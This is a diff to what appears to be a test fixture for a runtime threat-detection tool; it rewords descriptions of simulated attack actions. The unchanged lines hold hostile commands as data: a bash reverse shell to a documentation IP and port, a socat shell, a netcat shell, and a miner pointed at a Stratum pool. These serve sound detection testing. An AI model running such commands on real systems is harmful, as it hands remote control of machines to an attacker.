@@ -34,7 +34,7 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
   },
   {
     name: 'start-reverse-shell-from-web-server',
-    description: 'runs a program called apache2, which starts a shell that is told to talk to another machine',
+    description: 'runs a program called apache2, which starts a shell with a command that connects to another machine',
     where: 'any',
     rules: ['Reverse Shell from Web Server'],
     ...starts('apache2', 'bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
@@ -48,21 +48,21 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
   },
   {
     name: 'run-miner-under-another-name',
-    description: 'runs a program that is told of a mining pool',
+    description: 'runs a program with the address of a mining pool as argument',
     where: 'any',
     rules: ['Detect crypto miners using the Stratum protocol'],
     ...runs('worker', '-o', 'stratum+tcp://pool.example:3333'),
   },
   {
     name: 'run-netcat-with-shell-on-host',
-    description: 'runs a program called nc that is told to run a shell',
+    description: 'runs a program called nc with the option to run a shell',
     where: 'host',
     rules: ['Netcat/Socat Remote Code Execution on Host'],
     ...runs('nc', ...NETCAT),
   },
   {
     name: 'run-socat-with-shell-on-host',
-    description: 'runs a program called socat that is told to run a shell',
+    description: 'runs a program called socat with the option to run a shell',
     where: 'host',
     rules: ['Netcat/Socat Remote Code Execution on Host'],
     ...runs('socat', 'TCP:192.0.2.1:22', 'EXEC:/bin/sh'),
@@ -83,7 +83,7 @@ export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
   },
   {
     name: 'decode-payload',
-    description: 'runs a program called base64 that is told to decode',
+    description: 'runs a program called base64 with the option to decode',
     where: 'container',
     rules: ['Decoding Payload in Container'],
     ...runs('base64', '-d'),
